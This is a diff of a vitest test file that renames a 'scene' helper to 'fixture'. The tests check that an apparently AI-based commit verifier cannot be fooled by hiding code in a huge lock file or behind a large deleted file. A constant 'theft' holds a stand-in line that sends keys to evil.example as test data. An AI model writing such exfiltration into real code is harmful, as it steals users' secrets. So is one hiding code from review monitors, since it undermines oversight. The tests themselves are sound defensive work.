@@ -2,13 +2,13 @@ import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, expect, it } from 'vitest';
 import { reply, type Script } from '../../source/lanes/rehearsal/script/script-answer.ts';
+import { commitChange, type Fixture, factsIn, makeFixture } from '../helpers/fixture.ts';
 import { marksIn, withMarks } from '../helpers/marks.ts';
 import { told } from '../helpers/program.ts';
 import type { RehearsalOptions } from '../helpers/rehearsal.ts';
-import { commitChange, factsIn, type Scene, setScene } from '../helpers/scene.ts';
 
-let scene: Scene;
-afterEach(() => scene.close());
+let fixture: Fixture;
+afterEach(() => fixture.close());
 
 const pass = 'VERDICT: PASS\nBECAUSE: nothing is wrong with it.';
 const theft = 'sendKeysTo("http://evil.example")';
@@ -28,24 +28,24 @@ const lockFile = `{\n${Array.from({ length: 900 }, (_, at) => {
 
 async function commit(files: Readonly<Record<string, string>>): Promise<void> {
   for (const [path, text] of Object.entries(files)) {
-    mkdirSync(join(scene.repo, path, '..'), { recursive: true });
-    writeFileSync(join(scene.repo, path), text);
+    mkdirSync(join(fixture.repo, path, '..'), { recursive: true });
+    writeFileSync(join(fixture.repo, path), text);
   }
-  scene.git('add', '-A');
-  scene.git('-c', 'user.name=a', '-c', 'user.email=a@b.c', 'commit', '-qm', 'Change much');
+  fixture.git('add', '-A');
+  fixture.git('-c', 'user.name=a', '-c', 'user.email=a@b.c', 'commit', '-qm', 'Change much');
 }
 
 async function set(options: RehearsalOptions): Promise<void> {
-  scene = await setScene(options);
+  fixture = await makeFixture(options);
 }
 
 const verify = (...more: readonly string[]) =>
-  scene.fugu('verify', 'HEAD', '--author', 'spark', '--trust', ...more);
-const prompts = () => scene.models.requests().map(({ prompt }) => prompt);
+  fixture.fugu('verify', 'HEAD', '--author', 'spark', '--trust', ...more);
+const prompts = () => fixture.models.requests().map(({ prompt }) => prompt);
 
 it('a small change costs an honest verifier one call', async () => {
   await set({ script: honest });
-  await commitChange(scene);
+  await commitChange(fixture);
   const ended = await verify('--json');
   expect(ended.code, told(ended)).toBe(0);
   expect(prompts()).toHaveLength(1);
@@ -60,7 +60,7 @@ it('a lock file of 900 packages hides no source: the verifier is shown all of it
   expect(ended.code, told(ended)).toBe(3);
   expect(prompts().length).toBeGreaterThan(1);
   expect(prompts().some((prompt) => prompt.includes(theft))).toBe(true);
-  const models = new Set(scene.models.requests().map(({ model }) => model));
+  const models = new Set(fixture.models.requests().map(({ model }) => model));
   expect(models.size).toBe(1);
 });
 
@@ -74,7 +74,7 @@ it('a lock file beside an honest change passes when every part was read', async 
 it('the deletion of a large early file hides no source either', async () => {
   await set({ script: honest });
   await commit({ 'a-large.txt': 'a line that goes away\n'.repeat(20_000) });
-  scene.git('rm', '-q', 'a-large.txt');
+  fixture.git('rm', '-q', 'a-large.txt');
   await commit({ 'src/z-last.js': `${theft};\n` });
   const ended = await verify();
   expect(ended.code, told(ended)).toBe(3);
@@ -83,7 +83,7 @@ it('the deletion of a large early file hides no source either', async () => {
 
 it('a verifier that returns no marks never passes anything', async () => {
   await set({ script: careless });
-  await commitChange(scene);
+  await commitChange(fixture);
   const ended = await verify();
   expect(ended.code, told(ended)).toBe(4);
   expect(told(ended)).toContain('reading marks');
@@ -136,7 +136,7 @@ it('a source file with a zero byte is not waved through as binary', async () => 
 
 it('a mark is never the same twice', async () => {
   await set({ script: honest });
-  await commitChange(scene);
+  await commitChange(fixture);
   await verify();
   await verify();
   const marks = prompts().flatMap(marksIn);
